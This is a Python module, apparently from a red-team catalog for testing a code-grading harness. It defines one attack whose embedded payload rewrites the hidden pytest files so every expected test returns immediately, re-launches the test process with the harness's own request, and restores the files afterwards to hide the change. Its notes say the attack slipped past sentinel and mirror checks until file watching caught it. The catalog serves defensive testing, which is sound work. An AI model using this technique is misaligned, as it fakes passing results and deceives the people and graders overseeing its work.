"""Attacks by code under test that writes to the tests' files while they are graded."""

from blockers.attacks.attack import Attack
from blockers.attacks.programs import plant_knowing

RETURN_AT_ONCE = """
import ast as _ast, atexit as _atexit, json as _json, os as _os, sys as _sys
def _rewritten(path, before):
    lines, wanted = before.split("\\n"), {i.partition("[")[0].rpartition("::")[2] for i in EXPECTED if i.startswith(path)}
    functions = [n for n in _ast.walk(_ast.parse(before)) if isinstance(n, _ast.FunctionDef) and n.name in wanted]
    for function in sorted(functions, key=lambda n: -n.body[0].lineno):
        first = function.body[0]
        lines.insert(first.lineno - 1, " " * first.col_offset + "return")
    return "\\n".join(lines)
def _write(texts):
    for path, text in texts.items():
        with open(path, "w") as file: file.write(text)
def _texts():
    texts = {}
    for path in {i.partition("::")[0] for i in EXPECTED}:
        try:
            with open(path) as file: texts[path] = file.read()
        except OSError: pass
    return texts
def _begin_again():
    frame = _sys._getframe()
    while frame is not None and not {"request", "descriptor"} <= frame.f_locals.keys():
        frame = frame.f_back
    with open("/tmp/request", "w") as file: _json.dump(frame.f_locals["request"], file)
    _os.dup2(_os.open("/tmp/request", _os.O_RDONLY), 0)
    _os.set_inheritable(frame.f_locals["descriptor"], True)
    _os.execv(_sys.executable, _sys.orig_argv)
if "pytest" in _sys.modules and not _os.path.exists("/tmp/before"):
    _before = _texts()
    with open("/tmp/before", "w") as _file: _json.dump(_before, _file)
    _write({path: _rewritten(path, text) for path, text in _before.items()})
    _begin_again()
elif "pytest" in _sys.modules:
    with open("/tmp/before") as _file: _atexit.register(_write, _json.load(_file))
"""
"""The hidden tests return at once; the tests' process begins anew with its own request, and reads them so."""

ATTACKS = (
    Attack(
        id="tests-rewritten-in-use",
        vector="own",
        title="hidden tests rewritten while they are graded, and put back",
        how="Has each hidden test return at once, in its file, as soon as the package is imported; then has the tests' "
        "process begin anew with the request that it was given, and puts the files back when that ends.",
        knows="tests",
        steps=plant_knowing(RETURN_AT_ONCE),
        caught_by=("grade:tampered",),
        history="Passed the sentinels and mirrors, so that the oracle alone stood against it, until files were watched.",
    ),
)
